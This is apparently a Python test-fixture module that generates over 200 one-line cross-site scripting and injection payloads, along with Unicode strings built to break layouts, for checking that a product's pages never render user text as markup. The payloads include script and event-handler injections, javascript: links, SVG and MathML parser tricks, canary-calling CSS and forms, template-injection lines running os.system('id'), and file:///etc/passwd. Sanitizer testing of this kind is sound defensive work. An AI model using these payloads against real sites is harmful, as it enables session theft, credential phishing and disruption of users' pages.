"""Words that would be code if any page of ours took text for markup (T-11, T-14). Each calls pwned(its number) or fetches from the canary."""

from __future__ import annotations

__all__ = ["corpus", "unicode_bombs"]

# N stands for the number of the payload, CANARY for an address nobody may ask for.
_WRITTEN = r"""
<script>pwned(N)</script>
<ScRiPt>pwned(N)</sCrIpT>
<script src=CANARY></script>
<script/src=CANARY>
<<script>pwned(N)//<</script>
<script type=module>pwned(N)</script>
<script>pwned(N)
</script><script>pwned(N)</script>
"><script>pwned(N)</script>
'><script>pwned(N)</script>
--></style></title></textarea></script><script>pwned(N)</script>
<scr<script>ipt>pwned(N)</scr</script>ipt>
\x3cscript\x3epwned(N)\x3c/script\x3e
\u003cscript\u003epwned(N)\u003c/script\u003e
&lt;script&gt;pwned(N)&lt;/script&gt;
&amp;lt;script&amp;gt;pwned(N)
&#60;script&#62;pwned(N)&#60;/script&#62;
&#x3C;img src=x onerror=pwned(N)&#x3E;
%3Cscript%3Epwned(N)%3C/script%3E
+ADw-script+AD4-pwned(N)+ADw-/script+AD4-
¼script¾pwned(N)¼/script¾
＜script＞pwned(N)＜/script＞
<script>/*<!--*/pwned(N)</script>
<svg><script>pwned(N)</script></svg>
<svg><script href=CANARY /></svg>
<svg><script xlink:href=data:,pwned(N) /></svg>
<svg><style><img src=x onerror=pwned(N)></style></svg>
<svg><a xlink:href=javascript:pwned(N)><text y=20>here</text></a></svg>
<svg><animate onbegin=pwned(N) attributeName=x dur=1s>
<svg><animate attributeName=href values=javascript:pwned(N) /><a id=x><text>x</text></a></svg>
<svg><set attributeName=onmouseover to=pwned(N)>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwned(N)</script></svg>#x"/></svg>
<svg><foreignObject><body xmlns=http://www.w3.org/1999/xhtml onload=pwned(N)></foreignObject></svg>
<svg><image href=CANARY /></svg>
<svg><feImage href=CANARY /></svg>
<svg><title><![CDATA[</title><img src=x onerror=pwned(N)>]]></svg>
<svg></p><style><a id="</style><img src=1 onerror=pwned(N)>">
<math><mtext></mtext><mglyph><style><img src=x onerror=pwned(N)></style></mglyph></math>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=pwned(N)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned(N)>
<math href=javascript:pwned(N)>here</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=pwned(N)></annotation-xml></math>
<math><maction actiontype=statusline xlink:href=javascript:pwned(N)>here</maction></math>
<xmp><p title="</xmp><img src=x onerror=pwned(N)>">
<noscript><p title="</noscript><img src=x onerror=pwned(N)>">
<template><p title="</template><img src=x onerror=pwned(N)>">
<noembed><img title="</noembed><img src onerror=pwned(N)>">
<noframes><p title="</noframes><img src=x onerror=pwned(N)>">
<plaintext><img src=x onerror=pwned(N)>
<textarea><img title="</textarea><img src=x onerror=pwned(N)>">
<title><img title="</title><img src=x onerror=pwned(N)>">
<style><img title="</style><img src=x onerror=pwned(N)>">
<select><style></select><img src=x onerror=pwned(N)></style>
<table><td background=CANARY>
<option><style></option></select><img src=x onerror=pwned(N)></style>
<p id="</p><img src=x onerror=pwned(N)>">
<a href="</a><img src=x onerror=pwned(N)>">x
<!--><img src=x onerror=pwned(N)>-->
<!--<img src="--><img src=x onerror=pwned(N)//">
<![CDATA[<img src=x onerror=pwned(N)>]]>
<?xml version="1.0"?><img src=x onerror=pwned(N)>
<?php echo 1 ?><img src=x onerror=pwned(N)>
<!doctype html><img src=x onerror=pwned(N)>
<template shadowrootmode=open><img src=x onerror=pwned(N)></template>
<div is=x-y><img src=x onerror=pwned(N)>
<img src=x onerror=pwned(N)>
<img/src=x/onerror=pwned(N)>
<img src=x onerror	=	pwned(N)>
<IMG ""'"><SCRIPT>pwned(N)</SCRIPT>">
<img src="x` `<script>pwned(N)</script>"` `>
<img src=x onerror="&#112;wned(N)">
<img src=x onerror=&#x70;wned(N)>
<img src=x:x onerror=top.pwned(N)>
<img src=x onerror=window['pwn'+'ed'](N)>
<img srcset="x 1x" onerror=pwned(N)>
<img srcset="CANARY 1x, CANARY 2x">
<img src=CANARY>
<img src="CANARY" loading=eager>
<img lowsrc=CANARY dynsrc=CANARY>
<picture><source srcset=CANARY><img></picture>
<video src=CANARY autoplay onerror=pwned(N)>
<video><source onerror=pwned(N)></video>
<video poster=CANARY></video>
<audio src=CANARY autoplay onerror=pwned(N)></audio>
<track src=CANARY default>
<input type=image src=CANARY onerror=pwned(N)>
<input autofocus onfocus=pwned(N)>
<textarea autofocus onfocus=pwned(N)>
<select autofocus onfocus=pwned(N)>
<keygen autofocus onfocus=pwned(N)>
<details open ontoggle=pwned(N)>
<marquee onstart=pwned(N)>x</marquee>
<body onload=pwned(N)>
<body background=CANARY>
<body onpageshow=pwned(N)>
<frameset onload=pwned(N)>
<iframe src=javascript:pwned(N)>
<iframe srcdoc="<script>parent.pwned(N)</script>">
<iframe src=CANARY>
<iframe onload=pwned(N)></iframe>
<object data=javascript:pwned(N)>
<object data=CANARY></object>
<object type=text/html data="data:text/html,<script>parent.pwned(N)</script>">
<embed src=javascript:pwned(N)>
<embed src=CANARY>
<applet code=CANARY>
<portal src=CANARY>
<fencedframe src=CANARY>
<link rel=stylesheet href=CANARY>
<link rel=preload as=script href=CANARY>
<link rel=prefetch href=CANARY>
<link rel=dns-prefetch href=CANARY>
<link rel=import href=CANARY>
<link rel=manifest href=CANARY>
<link rel=icon href=CANARY>
<base href=CANARY>
<base target=_blank>
<meta http-equiv=refresh content="0;url=javascript:pwned(N)">
<meta http-equiv=refresh content="0;url=CANARY">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta http-equiv=Set-Cookie content="x=y">
<meta name=referrer content=unsafe-url>
<style>@import 'CANARY';</style>
<style>*{background:url(CANARY)}</style>
<style>body{display:none}</style>
<div style="background:url(CANARY)">x</div>
<div style="width:expression(pwned(N))">x</div>
<div style="-moz-binding:url(CANARY)">x</div>
<div style="behavior:url(CANARY)">x</div>
<div style=position:fixed;inset:0;z-index:99999>x</div>
<div style="list-style:url(CANARY)">x</div>
<div style="cursor:url(CANARY),auto">x</div>
<div style="background:u\72l(CANARY)">x</div>
<form action=CANARY><input name=password><button>Sign in</button></form>
<form action=javascript:pwned(N)><input type=submit>
<button form=composer formaction=CANARY>Send</button>
<input form=signin type=submit formaction=javascript:pwned(N)>
<button formaction=javascript:pwned(N)>Send</button>
<isindex type=submit formaction=javascript:pwned(N)>
<a href=javascript:pwned(N)>here</a>
<a href="java	script:pwned(N)">here</a>
<a href="java&Tab;script&colon;pwned(N)">here</a>
<a href="jav&#x0A;ascript:pwned(N)">here</a>
<a href="&#1;javascript:pwned(N)">here</a>
<a href="&#x6A;&#x61;&#x76;&#x61;script:pwned(N)">here</a>
<a href=" javascript:pwned(N)">here</a>
<a href="JaVaScRiPt:pwned(N)">here</a>
<a href="javascript&#58;pwned(N)">here</a>
<a href="javascript://%0apwned(N)">here</a>
<a href="data:text/html,<script>opener.pwned(N)</script>">here</a>
<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==">here</a>
<a href="vbscript:pwned(N)">here</a>
<a href="blob:CANARY">here</a>
<a href="x" ping=CANARY>here</a>
<a href=# onclick=pwned(N)>here</a>
<area href=javascript:pwned(N) shape=default>
javascript:pwned(N)
javascript://example.com/%0apwned(N)
JAVASCRIPT:pwned(N)//https://a.example/
data:text/html,<script>pwned(N)</script>
vbscript:msgbox(N)
view-source:CANARY
file:///etc/passwd
https://a.example/"onmouseover=pwned(N)//
https://a.example/'onmouseover='pwned(N)
https://a.example/<img/src=x/onerror=pwned(N)>
https://a.example/?x="><script>pwned(N)</script>
https://a.example@127.0.0.1/pwned(N)
https://a.example/%22%3E%3Cscript%3Epwned(N)%3C/script%3E
mailto:a@b.example?body=<script>pwned(N)</script>
"<img src=x onerror=pwned(N)>"@a.example
http://[::1]/<svg/onload=pwned(N)>
[here](javascript:pwned(N))
![x](x"onerror="pwned(N))
![x](CANARY)
[a]: javascript:pwned(N)
`<img src=x onerror=pwned(N)>`
<javascript:pwned(N)>
[url=javascript:pwned(N)]here[/url]
[img]CANARY[/img]
{{constructor.constructor('pwned(N)')()}}
{{$on.constructor('pwned(N)')()}}
{{_c.constructor('pwned(N)')()}}
{{7*7}}${7*7}<%= 7*7 %>#{7*7}*{7*7}
{{config.__class__.__init__.__globals__['os']}}
{% import os %}{{ os.system('id') }}
${pwned(N)}
`${pwned(N)}`
<%- pwned(N) %>
{first_name} {agent} {__class__} {0.__init__.__globals__}
[[${pwned(N)}]]
{{{<img src=x onerror=pwned(N)>}}}
<div ng-app ng-csp><p ng-click=$event.view.pwned(N)>here</p></div>
<div v-html="'<img src=x onerror=pwned(N)>'"></div>
<div x-data x-init=pwned(N)>x</div>
<div hx-get=CANARY hx-trigger=load>x</div>
<div data-bind="html:'<img src=x onerror=pwned(N)>'">x</div>
';pwned(N)//
";pwned(N)//
\';pwned(N)//
</script><svg onload=pwned(N)>
*/pwned(N)/*
`;pwned(N);`
]]><img src=x onerror=pwned(N)>
{"__proto__":{"html":"<img src=x onerror=pwned(N)>"}}
{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=pwned(N)>"}}
constructor
__proto__
toString
<script>document.cookie='a=N;path=/';pwned(N)</script>
<slot onslotchange=pwned(N)>
<dialog open onclose=pwned(N)>
<button popovertarget=x>here</button><div popover id=x onbeforetoggle=pwned(N)>x
<img name=cookie><form name=body><input name=attributes>
<a id=defaultView><a id=defaultView name=x href=javascript:pwned(N)>
<x contenteditable onblur=pwned(N) autofocus tabindex=1>
<x onfocusin=pwned(N) autofocus tabindex=1>
<style>@keyframes x{}</style><x style=animation-name:x onanimationstart=pwned(N)>
<x onanimationend=pwned(N) style="animation:spin 1ms">
<x ontransitionrun=pwned(N) style="transition:all 1ms">
<x onpointerrawupdate=pwned(N) onmousemove=pwned(N)>x
<x onscrollend=pwned(N) style="overflow:auto">x
'"()&%<acx><script>pwned(N)</script>
abc<img src=x onerror=pwned(N)>
<img src=x onerror=pwned(N)>
مرحبا <b onmouseover=pwned(N)>سلام</b>
ＪＡＶＡＳＣＲＩＰＴ：pwned(N)
<ſcript>pwned(N)</ſcript>
<ıframe onload=pwned(N)>
""".strip("\n").split("\n")
_HANDLERS = (
    ("svg", "onload"), ("svg/a", "onload"), ("body", "onhashchange"), ("body", "onmessage"), ("body", "onstorage"), ("body", "onresize"),
    ("body", "onunhandledrejection"), ("video", "oncanplay"), ("img", "onload"), ("image", "onerror"), ("object", "onerror"), ("x", "onwheel"),
)  # fmt: skip
_WITH_FORMAT_SIGNS = (
    "\u202e<img src=x onerror=pwned(N)>\u202c",
    "\u2066javascript:pwned(N)\u2069",
    "<img\ufeffsrc=x onerror=pwned(N)>",
    "<\u200bscript>pwned(N)</\u200bscript>",
    "java\u00adscript:pwned(N)",
    "https://a.example/\u202e)N(denwp:tpircsavaj",
)
_LONG = ("<b>" * 400 + "<img src=x onerror=pwned(N)>", "A" * 3000 + "<script>pwned(N)</script>", "<a title='" * 200 + "onclick=pwned(N)>")


def corpus(canary: str) -> list[str]:
    """More than 200 payloads, each of one line; the n-th says `pwned(n)` or asks for `<canary>/n`."""
    handlers = [f"<{tag} {event}=pwned(N) src=x style=display:block>" for tag, event in _HANDLERS]
    found = [*_WRITTEN, *handlers, *_WITH_FORMAT_SIGNS, *_LONG]
    return [line.replace("CANARY", f"{canary}/{at}").replace("pwned(N)", f"pwned({at})") for at, line in enumerate(found)]


def unicode_bombs() -> dict[str, str]:
    """Texts that break layouts and loops (R-55), each within the 10,000 characters of a message."""
    return {
        "combining marks": "a" + "\u0301" * 9_990,
        "marks above and below": "".join(letter + "\u0300\u0316\u0340\u0317" * 40 for letter in "zalgo text") * 6,
        "marks without a letter": "\u0336" * 5_000,
        "right to left override": "\u202e" + "gnp.exe " * 300,
        "overrides never closed": ("\u202d\u202e\u2066\u2067\u2068" * 400) + "the end",
        "isolates turned around": "\u2069\u202c" * 500 + "x",
        "zero width": "in\u200bvis\u200cib\u200dle\u2060\ufeff" * 300,
        "only zero width in the middle": "a" + "\u200b" * 9_000 + "b",
        "one family after another": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 1_400,
        "one endless family": "\u200d".join(["\U0001f468"] * 4_900),
        "flags": "\U0001f1eb\U0001f1ee" * 2_500,
        "tag characters": "\U0001f3f4" + "\U000e0067" * 3_000,
        "variation selectors": "x" + "\ufe0f" * 5_000,
        "no place to break": "W" * 10_000,
        "no place to break, wide": "\ufdfd" * 1_000,
        "an address without end": "https://a.example/" + "x" * 9_900,
        "line ends": "\n" * 9_000 + "the end",
        "line and paragraph separators": "a\u2028b\u2029" * 1_000,
        "not a character": "\ufffe\uffff\U0001fffe" * 300 + "x",
        "private use": "\ue000\uf8ff\U0010fffd" * 300,
        "object replacement": "\ufffc" * 2_000 + "x",
        "Arabic ligatures": "\u0644\u0627" * 3_000,
        "Indic conjuncts": "\u0915\u094d" * 4_000 + "\u0937",
        "Telugu that stopped telephones": "\u0c1c\u0c4d\u0c1e\u200c\u0c3e " * 1_500,
        "Tibetan stacks": "\u0f40\u0f90\u0f90\u0f90\u0f90\u0f90" * 1_000,
        "Hangul pieces": "\u1100\u1161\u11a8" * 3_000,
        "spaces of every width": "\u00a0\u2003\u3000\u2009\u205f" * 1_500 + "x",
        "control characters": "".join(map(chr, range(1, 32))) * 100 + "\x7f\x80\x9f",
        "look-alikes": "Аdmin Мikko Suрpоrt " * 100,
        "tabs": "\t" * 5_000 + "x",
    }
